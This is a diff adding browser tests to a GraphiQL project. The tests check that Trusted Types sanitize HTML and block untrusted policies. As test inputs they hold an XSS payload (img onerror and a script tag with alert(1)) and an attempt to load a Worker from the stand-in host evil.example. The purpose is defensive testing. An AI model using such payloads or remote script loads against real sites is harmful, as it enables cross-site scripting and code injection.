@@ -9,6 +9,7 @@ import pytest
 from playwright.async_api import Error as PlaywrightError
 from playwright.async_api import Page, expect
 
+from tests.pages.page_monitor import PageMonitor
 from tests.pages.site import Site
 from tests.pages.waiting import eventually
 
@@ -145,3 +146,47 @@ async def test_a_signed_in_user_needs_no_token(page: Page, site: Site) -> None:
     await page.get_by_role("tab", name="Send").click()
     await run(page)
     await expect_result(page, '"title":"HellofromGraphiQL"')
+
+
+async def test_strings_become_no_scripts(page: Page, site: Site, monitor: PageMonitor) -> None:
+    """Trusted types: HTML from strings is sanitized, and no script makes a policy that does not."""
+    await open_graphiql(page, "List")
+    html = await page.evaluate(
+        """() => {
+          const element = document.createElement("div");
+          element.innerHTML = "<b>bold</b><img src='data:,' onerror='alert(1)'><script>alert(1)</script>";
+          return element.innerHTML;
+        }"""
+    )
+    assert html == '<b>bold</b><img src="data:,">'
+    assert monitor.violations == []
+    refused = """() => [
+      () => trustedTypes.createPolicy("own", { createHTML: (html) => html }),
+      () => new Worker("https://evil.example/worker.js"),
+    ].map((attempt) => { try { attempt(); return "done"; } catch (error) { return error.name; } })"""
+    assert await page.evaluate(refused) == ["TypeError", "TypeError"]
+    await eventually(lambda: violated(monitor), ["require-trusted-types-for", "trusted-types"])
+    monitor.violations.clear()
+    monitor.console.clear()
+
+
+async def violated(monitor: PageMonitor) -> list[str]:
+    """Return the directives that a page has violated, in the order of the alphabet."""
+    return sorted(report.split(" ")[0] for report in monitor.violations)
+
+
+async def test_the_editor_works_under_the_policy(page: Page, site: Site) -> None:
+    """What Monaco makes of strings: suggestions, its commands, and its search."""
+    await open_graphiql(page, "List")
+    await eventually(lambda: running_workers(page), {"editor", "graphql", "json"})
+    editor = page.locator("section[aria-label='Operation Editor']")
+    await editor.get_by_text("unreadCount").click()
+    await page.keyboard.press("End")
+    await page.keyboard.type(" to")
+    await expect(page.locator(".suggest-widget .monaco-list-row").first).to_be_visible()
+    await page.keyboard.press("Escape")
+    await page.keyboard.press("Control+F")
+    await expect(editor.locator(".find-widget")).to_be_visible()
+    await page.keyboard.press("Escape")
+    await page.keyboard.press("F1")
+    await expect(page.locator(".quick-input-widget")).to_be_visible()
